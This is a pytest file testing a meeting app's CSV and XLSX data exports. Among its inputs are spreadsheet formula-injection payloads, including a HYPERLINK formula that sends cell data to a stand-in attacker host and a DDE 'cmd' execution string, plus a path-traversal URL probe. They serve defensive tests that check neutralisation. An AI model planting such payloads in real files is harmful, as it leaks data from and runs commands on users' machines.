"""Data for analysis (issue 19, part 7): entries, reports and attendance as CSV and XLSX, opened back
with the csv module and openpyxl, with hostile text (formulas, right-to-left, emoji, line breaks,
quotes) typed live by the table's own roles."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from facilitator.export import datafiles
from facilitator.models import Entry
from facilitator.rules import text_problem

from .fuzzing import any_text, examples

KEY = "device-a-" + "1" * 24
NS = "/live"

# what people type that a spreadsheet could misread, each added live
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klik hier")',
    "+31 6 12345678",
    "-2 procent groei",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "مرحبا بالعالم: الرفاه الواسع",
    "שלום, רווחה רחבה",
    "Fietsen 🚲👍🏽 en 👨‍👩‍👧",
    "regel één\nregel twee\n\nregel vier",
    'Hij zei "ja", toen \'nee\'; daarna ""niets""',
    "café, crème; naïef — coöperatie",
]
PARTICIPANT_TEXT = "=1+1 van mijn telefoon"


def uid() -> str:
    return str(uuid.uuid4())


def add(client, text: str, bollen=("sociaal",)) -> str:
    entry_id = uid()
    payload = {"op": uid(), "id": entry_id, "text": text, "bollen": list(bollen), "horizons": ["later"]}
    ack = client.emit("entry:add", payload, namespace=NS, callback=True)
    assert ack["ok"], ack
    return entry_id


@pytest.fixture
def typed(app, connect, meeting_links):
    """The demo meeting with hostile entries typed live: the rapporteur's at table 1, a phone's at
    table 2, one hidden by the chair, one deleted."""
    rapporteur = connect("rapporteur", 1)
    ids = [add(rapporteur, text, ("economisch", "sociaal")) for text in HOSTILE]
    phone = connect("participant", 2, author=KEY)
    add(phone, PARTICIPANT_TEXT)
    chair = connect("chair")
    hidden = chair.emit(
        "entry:hide", {"op": uid(), "id": ids[0], "hidden": True}, namespace=NS, callback=True
    )
    assert hidden["ok"], hidden
    gone = add(rapporteur, "Weg ermee")
    assert rapporteur.emit("entry:delete", {"op": uid(), "id": gone}, namespace=NS, callback=True)["ok"]
    with app.app_context():
        from facilitator.extensions import db

        keys = [k for k in db.session.execute(select(Entry.author_key)).scalars() if k]
    return {"slug": meeting_links["meeting"], "keys": keys}


def get(client, url: str, mimetype: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    assert response.headers["Content-Type"] == mimetype
    assert response.headers["Cache-Control"] == "private, no-store"
    assert "attachment" in response.headers["Content-Disposition"]
    return response.data


def read_csv(raw: bytes) -> list[dict[str, str]]:
    assert raw.startswith(b"\xef\xbb\xbf")  # the byte order mark: Excel reads it as UTF-8
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def unneutralise(text: str) -> str:
    return text[1:] if text.startswith("'") and text[1:].startswith(datafiles.FORMULA_STARTS) else text


def workbook(raw: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(raw))


def test_entries_as_csv(logged_in, typed):
    slug = typed["slug"]
    raw = get(
        logged_in, f"/secretariaat/vergaderingen/{slug}/gegevens/entries.csv", "text/csv; charset=utf-8"
    )
    rows = read_csv(raw)
    assert list(rows[0]) == [
        "table",
        "position",
        "text",
        "bollen",
        "horizons",
        "author_role",
        "created_utc",
        "state",
    ]
    typed_rows = {unneutralise(r["text"]): r for r in rows}
    for text in HOSTILE:
        row = typed_rows[text]
        assert row["table"] == "1" and row["author_role"] == "rapporteur"
        assert row["bollen"] == "Economisch; Sociaal" and row["horizons"] == "Later"
    # formula-looking text starts with an apostrophe; the rest is as typed
    assert typed_rows[HOSTILE[0]]["text"] == "'" + HOSTILE[0]
    assert typed_rows["@SUM(A1:A9)"]["text"] == "'@SUM(A1:A9)"
    assert typed_rows["-2 procent groei"]["text"] == "'-2 procent groei"
    assert typed_rows[HOSTILE[5]]["text"] == HOSTILE[5]  # right to left, untouched
    assert typed_rows[HOSTILE[8]]["text"] == HOSTILE[8]  # line breaks inside one cell
    assert not [r for r in rows if r["text"].startswith(datafiles.FORMULA_STARTS)]
    assert typed_rows[HOSTILE[0]]["state"] == "hidden"
    assert {r["state"] for r in rows if r["text"] != "'" + HOSTILE[0]} == {"visible"}
    phone = typed_rows[PARTICIPANT_TEXT]
    assert phone["table"] == "2" and phone["author_role"] == "participant"
    assert "Weg ermee" not in typed_rows  # deleted: not in the data, as not in the annex
    assert {r["author_role"] for r in rows} == {"import", "rapporteur", "participant"}
    for row in rows:
        created = datetime.fromisoformat(row["created_utc"])
        assert row["created_utc"].endswith("Z") and created.utcoffset() == timedelta(0)
        assert created <= datetime.now(UTC)
    numbers = [(int(r["table"]), int(r["position"])) for r in rows]
    assert numbers == sorted(numbers) and len(set(numbers)) == len(numbers)
    # the device that added an entry is never named: not its key's hash, not the tag clients see
    assert typed["keys"]
    for key in typed["keys"]:
        assert key[:8].encode() not in raw


def test_the_workbook_holds_every_sheet_with_the_same_rows(logged_in, typed):
    slug = typed["slug"]
    base = f"/secretariaat/vergaderingen/{slug}/gegevens"
    book = workbook(get(logged_in, f"{base}.xlsx", datafiles.XLSX_MEDIA_TYPE))
    assert book.sheetnames == list(datafiles.SHEETS)
    for name in datafiles.SHEETS:
        ws = book[name]
        assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")
        cells = list(ws.iter_rows(values_only=False))
        assert not [c.coordinate for row in cells for c in row if c.data_type == "f"]  # never a formula
        csv_rows = read_csv(get(logged_in, f"{base}/{name}.csv", "text/csv; charset=utf-8"))
        header = [c.value for c in cells[0]]
        assert header == list(csv_rows[0])
        assert len(cells) - 1 == len(csv_rows)
        for row, expected in zip(cells[1:], csv_rows, strict=True):
            assert [_as_csv(c.value) for c in row] == [unneutralise(expected[h]) for h in header], name
    entries = {row[2]: row for row in book["entries"].iter_rows(min_row=2, values_only=True)}
    for text in [*HOSTILE, PARTICIPANT_TEXT]:
        assert text in entries  # exactly as typed: no apostrophe in the workbook
    assert isinstance(entries[HOSTILE[0]][6], datetime)
    assert entries[HOSTILE[0]][7] == "hidden"
    for key in typed["keys"]:
        assert all(key[:8] not in str(v) for row in entries.values() for v in row)


def _as_csv(value) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, datetime):
        return value.replace(tzinfo=UTC).isoformat(timespec="seconds").replace("+00:00", "Z")
    return str(value)


def test_reports_and_attendance(logged_in, ser, app):
    base = f"/secretariaat/vergaderingen/{ser}/gegevens"
    reports = read_csv(get(logged_in, f"{base}/reports.csv", "text/csv; charset=utf-8"))
    attendance = read_csv(get(logged_in, f"{base}/attendance.csv", "text/csv; charset=utf-8"))
    with app.app_context():
        from facilitator.export.service import load_meeting_data

        data = load_meeting_data(ser)
    assert len(reports) == 2 * len(data.tables)
    for table in data.tables:
        mine = {r["kind"]: r for r in reports if r["table"] == str(table.number)}
        assert unneutralise(mine["report"]["text"]) == table.report.replace("\r\n", "\n")
        assert unneutralise(mine["feedback"]["text"]) == table.feedback
        people = [r for r in attendance if r["table"] == str(table.number)]
        assert [r["name"] for r in people if r["participant"] == "true"] == table.participants
        leaders = [r["name"] for r in people if r["leader"] == "true"]
        assert leaders == ([table.leader] if table.leader else [])
        rapporteurs = [r["name"] for r in people if r["rapporteur"] == "true"]
        assert rapporteurs == ([table.rapporteur] if table.rapporteur else [])


def test_a_report_longer_than_a_cell_continues_in_the_next_row():
    table = SimpleNamespace(number=4, report="ab" * 40000, feedback="")
    sheet = datafiles.reports_sheet([table])
    parts = [row for row in sheet.rows if row[1] == "report"]
    assert [row[2] for row in parts] == [1, 2, 3]
    assert all(len(row[3]) <= datafiles.CELL_LIMIT for row in parts)
    assert "".join(row[3] for row in parts) == table.report
    raw = io.BytesIO()
    datafiles.write_xlsx([sheet], raw)
    values = [row[3] for row in workbook(raw.getvalue())["reports"].iter_rows(min_row=2, values_only=True)]
    assert "".join(v for v in values if v) == table.report


def test_unknown_sheets_and_meetings_are_not_found(logged_in, ser):
    assert logged_in.get(f"/secretariaat/vergaderingen/{ser}/gegevens/votes.csv").status_code == 404
    assert logged_in.get(f"/secretariaat/vergaderingen/{ser}/gegevens/..%2fx.csv").status_code == 404
    assert logged_in.get("/secretariaat/vergaderingen/onbekend/gegevens/entries.csv").status_code == 404
    assert logged_in.get("/secretariaat/vergaderingen/onbekend/gegevens.xlsx").status_code == 404


def test_the_meeting_page_links_the_data_in_dutch_and_english(logged_in, ser):
    dutch = logged_in.get(f"/secretariaat/vergaderingen/{ser}?lang=nl").get_data(as_text=True)
    assert "Gegevens voor analyse" in dutch and "Alles als Excel-werkmap (XLSX)" in dutch
    assert f"/secretariaat/vergaderingen/{ser}/gegevens.xlsx" in dutch
    for sheet in datafiles.SHEETS:
        assert f"/secretariaat/vergaderingen/{ser}/gegevens/{sheet}.csv" in dutch
    english = logged_in.get(f"/secretariaat/vergaderingen/{ser}?lang=en").get_data(as_text=True)
    assert "Data for analysis" in english and "Everything as an Excel workbook (XLSX)" in english
    assert "Entries (CSV)" in english and "Attendance (CSV)" in english
    assert "Gegevens voor analyse" not in english


# -- fuzzing: any text a person may type comes back from both formats ------------------------------

typed_text = any_text.map(str.strip).filter(lambda t: t and text_problem(t, multiline=True) is None)
formula_text = st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), any_text).map("".join)


@settings(max_examples=examples(60), deadline=None)
@given(
    st.lists(st.one_of(typed_text, formula_text.filter(lambda t: text_problem(t, True) is None)), max_size=6)
)
def test_any_text_comes_back_from_csv_and_xlsx(texts):
    sheet = datafiles.Sheet("entries", ["table", "text"], [[n, t] for n, t in enumerate(texts, start=1)])
    rows = read_csv(datafiles.to_csv(sheet))
    assert [unneutralise(r["text"]) for r in rows] == [datafiles.plain(t) for t in texts]
    assert not [r for r in rows if r["text"].startswith(datafiles.FORMULA_STARTS)]
    raw = io.BytesIO()
    datafiles.write_xlsx([sheet], raw)
    ws = workbook(raw.getvalue())["entries"]
    cells = [row[1] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [datafiles.plain(t) for t in texts]
    assert all(c.data_type == "s" for c in cells)


def test_the_data_command_writes_what_the_web_gives(app, runner, logged_in, typed, tmp_path):
    slug = typed["slug"]
    base = f"/secretariaat/vergaderingen/{slug}/gegevens"
    for sheet in datafiles.SHEETS:
        out = tmp_path / f"{sheet}.csv"
        result = runner.invoke(args=["data", slug, "--out", str(out), "--format", "csv", "--sheet", sheet])
        assert result.exit_code == 0, result.output
        assert out.read_bytes() == get(logged_in, f"{base}/{sheet}.csv", "text/csv; charset=utf-8")
    out = tmp_path / "gegevens.xlsx"
    assert runner.invoke(args=["data", slug, "--out", str(out)]).exit_code == 0
    from_cli, from_web = (
        workbook(out.read_bytes()),
        workbook(get(logged_in, f"{base}.xlsx", datafiles.XLSX_MEDIA_TYPE)),
    )
    for name in datafiles.SHEETS:
        assert list(from_cli[name].values) == list(from_web[name].values)
    assert out.stat().st_mode & 0o077 == 0  # the meeting's content: for its owner only


def test_data_command_errors_are_one_line(runner, ser, tmp_path):
    result = runner.invoke(args=["data", "onbekend", "--out", str(tmp_path / "x.xlsx")])
    assert result.exit_code != 0
    assert (
        result.output.strip()
        == "fout: onbekende vergadering 'onbekend' (zie de lijst op de secretariaatspagina)"
    )
    result = runner.invoke(args=["data", ser, "--out", str(tmp_path / "nope" / "x.xlsx")])
    assert result.exit_code != 0 and "bestaat niet" in result.output
    result = runner.invoke(
        args=["data", ser, "--out", str(tmp_path / "x.csv"), "--format", "csv", "--sheet", "votes"]
    )
    assert result.exit_code != 0 and not (tmp_path / "x.csv").exists()
